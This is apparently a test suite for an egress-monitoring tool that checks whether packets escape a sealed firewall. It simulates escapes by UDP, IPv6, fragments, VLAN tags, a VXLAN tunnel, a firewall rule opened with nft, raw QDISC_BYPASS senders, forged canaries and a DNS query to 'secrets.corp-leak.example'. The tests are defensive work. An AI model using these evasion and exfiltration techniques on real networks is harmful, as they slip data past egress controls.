"""Packets that left, and packets that were held: one row of the issue each."""
import socket
import struct
import subprocess
import sys
import threading
import time

import agent_kernel
import dns_recorder
import frames
from agent_judge import CODES, check, scenario
from agent_node import wait_for
from agent_world import MARK, OUT4, OUT6, RESOLVER, ROUTER, SENSOR_MAC, VLLM4


# --- sealed ---

@scenario("sealed and quiet", "report of a proven log: text, JSON and a page")
def sealed(lab):
    world, agent = lab.watched()
    with lab.row("sealed and quiet"):
        agent.beats(3).stop()
        result = lab.judge(agent, "proven")
        check(len(world.sensors()) >= 2, "no sensor canary left the node in both families")
        lab.nothing_left(world)
        check(not agent.gaps(), f"gaps in a quiet log: {agent.gaps()}")
        check([node["node"] for node in result["nodes"]] == ["n1"], f"nodes {result['nodes']}")
        check(result["limits"] and result["exceptions"], "no limits, or no exceptions although the policy has two")
    with lab.row("report of a proven log: text, JSON and a page"):
        text = lab.call("report", "--policy", lab.policy, "--evidence", agent.state, "--as-logged", code=CODES["proven"])[1]
        first = text.splitlines()[0].lower()
        check("proven" in first and "as logged" in first, f"the first line is {first!r}")
        folder = lab.folder / "report"
        lab.call("report", "--policy", lab.policy, "--evidence", agent.state, "--as-logged", "-o", folder, code=CODES["proven"])
        pages = list(folder.glob("*.html"))
        check(len(pages) == 1 and list(folder.glob("*.json")) and list(folder.glob("*.txt")), f"-o wrote {sorted(p.name for p in folder.iterdir())}")
        page = pages[0].read_text()
        check("proven" in page and "<script" not in page.lower() and "src=\"http" not in page and "@import" not in page, "the page is not plain and self-contained")


@scenario("attempt held by the firewall")
def attempt(lab):
    world, agent = lab.watched()
    check(world.udp("pod", OUT4, 4444), "the pod could not send")
    agent.beats(2).stop()
    result = lab.judge(agent, "proven", findings=[("attempt", OUT4, "4444")])
    check(lab.finding(result, "attempt", OUT4)["rule_id"] == "AT-A009", "an attempt of another rule")
    lab.nothing_left(world)


@scenario("attempts by IPv6 and ICMP held, from the pod and the node")
def attempts(lab):
    world, agent = lab.watched()
    world.udp("pod", OUT6, 4445)
    world.echo_request("pod", OUT4)
    world.udp("node", OUT4, 4446)  # refused in the output hook: nobody but the node saw it
    agent.beats(2).stop()
    lab.judge(agent, "proven", findings=[("attempt", OUT6, "4445"), ("attempt", OUT4, "icmp")])
    lab.nothing_left(world)


@scenario("an exception is listed and leaves the verdict alone")
def excepted(lab):
    world, agent = lab.watched()
    check(world.udp("node", "198.51.100.7", 123), "the node could not send")
    agent.beats(2).stop()
    lab.judge(agent, "proven", findings=[("excepted", "198.51.100.7", "123")])
    check([seen.destination for seen in world.left()] == ["198.51.100.7"], "the excepted packet did not leave alone")


# --- what left ---

def left(lab, send, findings, expected, sealed_first=False, alarm=(OUT4,)):
    """One story: the packet leaves, the wire saw it, standard error said so within a second, the report names it."""
    world, agent = lab.watched(sealed=sealed_first, canary=60)
    since = time.time()
    send(world)
    wait_for("the packet on the wire", lambda: any(expected(seen) for seen in list(world.recorder.seen)), 3)
    late = agent.alarm(*alarm, since=since)
    check(late < 1.0, f"the alarm came after {late:.2f} s")
    agent.beats(2).stop()
    lab.judge(agent, "violated", findings=findings)
    return world


def to(address, protocol):
    return lambda seen: seen.destination == address and seen.protocol == protocol and not seen.tagged


@scenario("one UDP packet left")
def udp_left(lab):
    left(lab, lambda world: world.udp("pod", OUT4, 4444), [("escape", OUT4, "4444", "udp")], to(OUT4, 17))


@scenario("one ICMPv6 packet left")
def icmpv6_left(lab):
    left(lab, lambda world: world.echo_request("pod", OUT6), [("escape", OUT6, "icmpv6")], to(OUT6, 58), alarm=(OUT6,))


@scenario("one IPv6 packet left")
def ipv6_left(lab):
    left(lab, lambda world: world.udp("node", OUT6, 4444), [("escape", OUT6, "4444")], to(OUT6, 17), alarm=(OUT6,))


@scenario("one fragmented packet left")
def fragmented_left(lab):
    def two_or_more(seen):
        return seen.destination == OUT4 and struct.unpack("!H", seen.octets[20:22])[0] & 0x1FFF > 0
    left(lab, lambda world: world.udp("pod", OUT4, 4444, payload=b"x" * 4000), [("escape", OUT4, "4444")], two_or_more)


@scenario("one VLAN packet left")
def vlan_left(lab):
    left(lab, lambda world: world.raw("node", "eth0", f"name=vlan,to={OUT4},tags=8100.7"), [("escape", OUT4)],
         lambda seen: seen.tagged and seen.destination == OUT4)


@scenario("a frame with an 802.1Q tag at the uplink, inside address or not")
def tagged_left(lab):
    left(lab, lambda world: world.raw("node", "eth0", f"name=tag,to={VLLM4},dport=8000,tags=8100.9"), [("non-ip", "AT-A011")],
         lambda seen: seen.tagged and seen.destination == VLLM4, alarm=("non-ip",))


@scenario("a frame of an undeclared EtherType at the uplink")
def stranger_left(lab):
    left(lab, lambda world: world.raw("node", "eth0", "name=odd,type=9000"), [("non-ip", "AT-A010", "9000")],
         lambda seen: seen.octets[12:14] == b"\x90\x00", alarm=("non-ip",))


@scenario("one VXLAN-wrapped packet left past a sealed firewall")
def vxlan_left(lab):
    inner = frames.build(f"name=inner,to={OUT4},dport=4444", bytes(6))[1]
    payload = b"\x08\0\0\0\0\0\7\0" + inner
    left(lab, lambda world: world.udp("node", ROUTER, 8472, payload=payload), [(("tunnel", "escape"), OUT4)],
         lambda seen: seen.destination == ROUTER and OUT4 in str_addresses(seen.octets), sealed_first=True)


def str_addresses(octets):
    return ".".join(map(str, octets[14 + 20 + 8 + 8 + 14 + 16:][:4]))


@scenario("one packet left by an opened chain of ours")
def opened_rule(lab):
    def send(world):
        world.nft("insert rule inet airtight output ip daddr 203.0.113.9 accept; insert rule netdev airtight_egress uplink_eth0 @ll,240,32 0xcb007109 accept")
        world.udp("node", OUT4, 4444)
    world = left(lab, send, [("escape", OUT4, "4444")], to(OUT4, 17), sealed_first=True)
    check(len(world.escaped()) == 1, f"{len(world.escaped())} packets left, one was sent")


@scenario("connection of an outside opener answered")
def answered(lab):
    """The reply is what leaves; the opener's packet alone is only listed."""
    def send(world):
        world.udp("internet", "10.42.0.2", 5555, payload=b"who is there")  # nobody: the answer is an ICMP error
    left(lab, send, [(("escape", "outside-inbound"), "172.31.255.2")], to("172.31.255.2", 1), alarm=("172.31.255.2",))


# --- names ---

def question(name, kind=1):
    return b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + dns_recorder.encode_name(name) + struct.pack("!HH", kind, 1)


@scenario("one DNS question to an outside resolver")
def dns_left(lab):
    left(lab, lambda world: world.udp("pod", OUT4, 53, payload=question("secrets.corp-leak.example")), [(("outside-name", "escape"), "secrets.corp-leak.example")],
         to(OUT4, 17))


@scenario("one DNS question to an outside resolver, held by the firewall: asking is enough")
def dns_held(lab):
    world, agent = lab.watched()
    since = time.time()
    world.udp("pod", OUT4, 53, payload=question("secrets.corp-leak.example"))
    late = agent.alarm("secrets.corp-leak.example", since=since)
    check(late < 1.0, f"the alarm came after {late:.2f} s")
    agent.beats(2).stop()
    lab.judge(agent, "violated", findings=[("outside-name", "AT-A020", "secrets.corp-leak.example")])
    lab.nothing_left(world)


def resolver(lab, world):
    """dns_recorder answers inside; it knows outside names too, which a resolver should not."""
    log = lab.folder / "resolver"
    server = subprocess.Popen(world.command("inside", sys.executable, dns_recorder.__file__, "serve", log, "lan0", RESOLVER), stdin=subprocess.DEVNULL)
    lab.undo.callback(server.wait)
    lab.undo.callback(server.kill)
    wait_for("the resolver", lambda: log.exists() and "watching" in log.read_text())
    return log


def ask(world, name):
    with world.inside("pod"):
        client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with client:
        client.settimeout(3)
        client.sendto(question(name), (RESOLVER, 53))
        return client.recv(4096)


@scenario("an inside name answered with an outside address")
def outside_answer(lab):
    world = lab.world()
    resolver(lab, world)
    agent = lab.agent(world).started()
    check(bytes([203, 0, 113, 50]) in ask(world, "out.corp.example"), "the resolver did not answer with the outside address")
    agent.beats(2).stop()
    lab.judge(agent, "proven", findings=[("outside-name", "AT-A023", "out.corp.example")])
    lab.nothing_left(world)


@scenario("an outside name that a declared resolver answers: it has an upstream")
def upstream(lab):
    world = lab.world()
    resolver(lab, world)
    agent = lab.agent(world).started()
    check(bytes([203, 0, 113, 66]) in ask(world, "www.evil.example"), "the resolver did not answer an outside name")
    agent.beats(2).stop()
    lab.judge(agent, "inconclusive", findings=[("outside-name", "AT-A022", "www.evil.example")])
    lab.nothing_left(world)


# --- raw senders and the canary's hole ---

@scenario("raw sender with QDISC_BYPASS toward the outside, with the chain")
def bypass_held(lab):
    world, agent = lab.watched()
    world.octets("node", "eth0", frames.build(f"name=raw,to={OUT4}", bytes(6))[1], bypass=True, count=20)
    agent.beats(2).stop()
    lab.judge(agent, "proven")
    lab.nothing_left(world)


@scenario("raw sender with QDISC_BYPASS toward the outside, without the chain")
def bypass_outside(lab):
    world = lab.world(sealed=False)
    agent = lab.agent(world, canary=60).started()
    world.octets("node", "eth0", frames.build(f"name=raw,to={OUT4},dport=4444", bytes(6))[1], bypass=True, count=20)
    wait_for("the packets on the wire", lambda: len(world.escaped()) >= 20, 3)
    agent.beats(2).stop()
    lab.judge(agent, ("violated", "inconclusive"))


@scenario("raw sender with QDISC_BYPASS toward the inside: the chain counts what the tap does not see")
def bypass_inside(lab):
    world, agent = lab.watched()
    agent.beats(1)
    world.octets("node", "eth0", frames.build(f"name=raw,to={VLLM4},dport=8000", bytes(6))[1], bypass=True, count=20)
    wait_for("the packets on the wire", lambda: sum(seen.destination == VLLM4 for seen in list(world.recorder.seen)) >= 20, 3)
    agent.beats(3).stop()
    lab.judge(agent, "inconclusive", gaps=["not-conserved"])
    check(any(gap["interface"] == "eth0" and int(gap["size"]) == 20 for gap in agent.gaps("not-conserved")), f"20 were not seen: {agent.gaps('not-conserved')}")
    lab.nothing_left(world)


@scenario("a hostNetwork process with the canary's mark, another shape")
def marked(lab):
    world, agent = lab.watched()
    world.udp("node", OUT4, 9, mark=MARK)
    world.raw("node", "eth0", f"name=marked,to={OUT4},mark={MARK}", f"name=marked,to=192.0.2.254,mark={MARK},ttl=1,mac={SENSOR_MAC.hex()}",
              f"name=marked,to={OUT6},mark={MARK}")
    agent.beats(2).stop()
    lab.judge(agent, "proven")
    lab.nothing_left(world)


@scenario("a canary copied by an attacker")
def copied(lab):
    world, agent = lab.watched(canary=10)
    own = wait_for("a sensor canary", world.sensors, 3)[0]
    since, known = time.time(), len(world.sensors())
    check(world.octets("node", "eth0", own.octets, mark=MARK) == 1, "the firewall did not take the copy")
    wait_for("the copy on the wire", lambda: len(world.sensors()) > known, 3)
    late = agent.alarm(own.destination, since=since)
    check(late < 1.0, f"the alarm came after {late:.2f} s")
    agent.beats(2).stop()
    lab.judge(agent, "violated", findings=[("escape", own.destination)])


@scenario("a canary with a nonce that nobody planned")
def forged(lab):
    world, agent = lab.watched(canary=10)
    known = len(world.sensors())
    made = frames.build(f"name={'x' * 18},to=192.0.2.254,dport=9,ttl=1,mac={SENSOR_MAC.hex()},size=32", bytes(6))[1]
    check(len(made) == 74, f"the shape is {len(made)} octets")
    check(world.octets("node", "eth0", made, mark=MARK) == 1, "the firewall did not take the forgery")
    wait_for("the forgery on the wire", lambda: len(world.sensors()) > known, 3)
    agent.beats(2).stop()
    lab.judge(agent, "violated", findings=[("escape", "192.0.2.254")])


# --- bulk ---

def bulk(lab, on):
    """TCP of some megabytes from the pod and the node, with segmentation in the device or before it."""
    world = lab.world(record=False)
    with world.inside("node"):
        for name in ("tso", "gso") if not on else ("tso",):
            agent_kernel.offload("eth0", name, on)
    with world.inside("inside"):
        server = socket.create_server((VLLM4, 8000))

    def drain():
        for _ in range(2):
            stream = server.accept()[0]
            with stream:
                while stream.recv(1 << 20):
                    pass

    threading.Thread(target=drain, daemon=True).start()
    agent = lab.agent(world).started()
    for name in ("node", "pod"):
        with world.inside(name):
            client = socket.socket()
        with client:
            client.settimeout(10)
            client.connect((VLLM4, 8000))
            for _ in range(64):
                client.sendall(bytes(1 << 17))
                time.sleep(0.01)
    server.close()
    agent.beats(2).stop()
    result = lab.judge(agent, "proven")
    check(sum(node.get("packets", 10 ** 6) for node in result["nodes"]) > 200, f"hardly a packet judged: {result['nodes']}")


@scenario("bulk TCP with segmentation by the device")
def tso_on(lab):
    bulk(lab, True)


@scenario("bulk TCP segmented before the device")
def tso_off(lab):
    bulk(lab, False)


@scenario("a node without a default route")
def no_route(lab):
    world = lab.world()
    world.ip("node route del default via 10.10.0.1\nnode route del default via fd00:10::1")
    agent = lab.agent(world).started()
    agent.beats(2).stop()
    lab.judge(agent, "proven")
    lab.nothing_left(world)

